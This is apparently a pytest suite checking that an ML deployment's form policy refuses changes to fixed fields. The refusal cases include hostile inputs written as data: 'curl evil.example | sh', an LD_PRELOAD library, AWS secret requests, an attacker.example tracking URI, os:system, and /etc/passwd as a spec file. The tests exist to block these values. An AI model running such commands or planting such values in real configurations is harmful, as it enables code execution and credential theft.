"""A deployment's form_policy: a run from the UI may change only the allowed fields, and name only project code."""

import pytest

from gpuflow.cluster.spec import SpecError, load_spec, parse_spec
from gpuflow.cluster.spec.form_policy import FormPolicy, differences
from gpuflow.flows.deployments.deploy import declared
from tests.support.repo import A_LOOP, DIGITS_DATA, REPO

ALLOW = ["train.epochs", "train.lr", "train.params.*", "compute.num_nodes"]


@pytest.fixture
def policy():
    baseline = parse_spec({**A_LOOP, "workdir": str(REPO), "data": DIGITS_DATA})
    return FormPolicy("team-digits", baseline, list(ALLOW))


def changed(policy, **sections):
    raw = policy.baseline.model_dump(mode="json")
    del raw["compute"]["num_workers"]  # derived from num_nodes × workers_per_node: let it follow them
    for section, fields in sections.items():
        if isinstance(fields, dict):
            raw[section] = {**raw[section], **fields}
        else:
            raw[section] = fields
    return parse_spec(raw)


def test_allowed_changes_pass(policy):
    spec = changed(
        policy, train={"epochs": 3, "lr": 0.01, "params": {"hidden": 64, "dropout": 0.1}}, compute={"num_nodes": 2}
    )
    assert policy.enforce(spec) is spec
    assert policy.enforce(policy.baseline) is policy.baseline


@pytest.mark.parametrize(
    "sections, field",
    [
        ({"train": {"loop": "os:system"}}, "train.loop"),
        ({"data": {"generate": "builtins:exec"}}, "data.generate"),
        ({"setup": "curl evil.example | sh"}, "setup"),
        ({"envs": {"LD_PRELOAD": "/tmp/evil.so"}}, "envs.LD_PRELOAD"),
        ({"secrets": ["AWS_SECRET_ACCESS_KEY"]}, "secrets"),
        ({"workdir": "/"}, "workdir"),
        ({"storage": {"checkpoints": "/etc"}}, "storage.checkpoints"),
        ({"tracking": {"uri": "http://attacker.example:5000"}}, "tracking.uri"),
        ({"data": {"train": "/root/private.parquet"}}, "data.train"),
        ({"compute": {"workers_per_node": 8}}, "compute.workers_per_node"),
        ({"limits": {"max_runtime_minutes": 10_000}}, "limits.max_runtime_minutes"),
    ],
)
def test_fixed_fields_are_refused_naming_the_field(policy, sections, field):
    with pytest.raises(SpecError) as refused:
        policy.enforce(changed(policy, **sections))
    message = str(refused.value)
    assert f"{field}: deployment 'team-digits' fixes this field" in message, message
    assert "form_policy.allow" in message


def test_spec_file_is_refused_unless_allowed(policy):
    with pytest.raises(SpecError, match="spec_file: deployment 'team-digits' takes its spec from the form only"):
        policy.enforce(policy.baseline, spec_file="/etc/passwd")
    policy.allow.append("spec_file")
    assert policy.enforce(policy.baseline, spec_file="experiments/digits.yaml") is policy.baseline


@pytest.mark.parametrize(
    "loop, why",
    [
        ("os:system", "not a function defined in module 'os'"),
        ("builtins:print", "not a function defined in module 'builtins'"),
        ("json:dumps", "defined outside the project folder"),
        ("experiments.digits:np", "not a function defined in module 'experiments.digits'"),
    ],
)
def test_an_allowed_loop_must_be_the_projects_own_function(policy, loop, why):
    policy.allow.append("train.loop")
    with pytest.raises(SpecError, match=why):
        policy.enforce(changed(policy, train={"loop": loop}))
    assert policy.enforce(changed(policy, train={"loop": "experiments.digits:train_loop"}))


def test_differences_are_dotted_paths():
    assert differences({"a": {"b": 1, "c": [1]}}, {"a": {"b": 2, "c": [1, 2], "d": 0}}) == ["a.b", "a.c", "a.d"]


def test_a_policy_reruns_the_deployed_commit_by_default_and_never_with_no_ref():
    """rerun_refs name the commits a rerun from the form may run; none at all would let it run MLflow's diff."""
    from gpuflow.cluster.spec.form_policy import policy_from

    baseline = {**A_LOOP, "workdir": str(REPO)}
    assert policy_from("d", {"form_policy": {"allow": ALLOW}}, baseline).rerun_refs == ["HEAD"]
    assert policy_from("d", {"form_policy": {"allow": ALLOW, "rerun_refs": ["main"]}}, baseline).rerun_refs == ["main"]
    with pytest.raises(SpecError, match="rerun_refs, at least one"):
        policy_from("d", {"form_policy": {"allow": ALLOW, "rerun_refs": []}}, baseline)


def test_nightly_deployment_declares_a_policy():
    [nightly] = [entry for entry in declared(REPO / "prefect.yaml") if entry["name"] == "nightly-digits"]
    assert "train.epochs" in nightly["form_policy"]["allow"] and "train.loop" not in nightly["form_policy"]["allow"]


def test_the_open_form_fixes_what_runs_on_the_worker_besides_the_loop():
    [open_form] = [entry for entry in declared(REPO / "prefect.yaml") if entry["name"] == "run-experiment"]
    policy = FormPolicy(
        "run-experiment",
        load_spec(REPO / "experiments" / "digits.yaml", [f"workdir={REPO}"]),
        open_form["form_policy"]["allow"],
    )
    assert policy.enforce(
        changed(
            policy,
            name="mine",
            train={"epochs": 3, "lr": 0.1, "params": {"hidden": 8}},
            compute={"num_nodes": 2},
            limits={"max_runtime_minutes": 30},
        )
    )
    assert policy.enforce(changed(policy, train={"loop": "tests.loops.plain:no_step_given"}, data=None))  # no data
    for field, value in (
        ("setup", "curl evil | sh"),
        ("envs", {"LD_PRELOAD": "/tmp/x.so"}),
        ("secrets", ["AWS_KEY"]),
        ("workdir", "/"),
        ("storage", {"checkpoints": "/tmp/elsewhere"}),
        ("tracking", {"uri": "http://elsewhere:5000"}),
    ):
        with pytest.raises(SpecError, match=f"{field}.*: deployment 'run-experiment' fixes this field"):
            policy.enforce(changed(policy, **{field: value}))


@pytest.mark.parametrize(
    "deployment, loop_refusal",
    [
        ("nightly-digits", "train.loop: deployment 'nightly-digits' fixes this field"),
        ("run-experiment", "train.loop: 'os:system' is not a function defined in module 'os'"),
    ],
)
@pytest.mark.full
def test_served_run_changing_a_fixed_field_fails_before_anything_exists(served, deployment, loop_refusal):
    """Through the real server and `gpuflow serve`: the run fails at spec_from, before validate or any cluster."""
    from mlflow import MlflowClient

    spec = served.deployment(deployment).parameters["spec"]
    hostile = {**spec, "train": {**spec["train"], "loop": "os:system"}, "setup": "id > /tmp/pwned"}
    with served.client() as client:
        flow_run = client.create_flow_run_from_deployment(
            served.deployment(deployment).id, parameters={"spec": hostile}
        )
    flow_run = served.wait_until_final(flow_run.id)
    assert flow_run.state.is_failed()
    message = flow_run.state.message
    assert loop_refusal in message, message
    assert f"setup: deployment '{deployment}' fixes this field" in message, message
    runs = MlflowClient(served.mlflow_url).search_runs(
        [e.experiment_id for e in MlflowClient(served.mlflow_url).search_experiments()],
        f"tags.`prefect.flow_run_id` = '{flow_run.id}'",
    )
    assert runs == []  # no MLflow run was opened, so no cluster either (both come after spec_from)


def test_a_spec_file_under_serve_takes_what_it_leaves_out_from_serves_overrides(monkeypatch):
    """`gpuflow serve --set tracking.uri=...` then a run with spec_file=experiments/digits.yaml: the file names no
    tracking server, so it tracks where the serve does; what the file gives (its epochs) stays the file's."""
    import json

    from gpuflow.cluster.protocol import SERVE_OVERRIDES_ENV
    from gpuflow.flows.run_spec import spec_from

    monkeypatch.setenv(SERVE_OVERRIDES_ENV, json.dumps(["tracking.uri=http://mlflow.team:5000", "train.epochs=3"]))
    spec = spec_from(None, str(REPO / "experiments" / "digits.yaml"))
    assert spec.tracking.uri == "http://mlflow.team:5000"
    assert spec.train.epochs == load_spec(REPO / "experiments" / "digits.yaml").train.epochs != 3
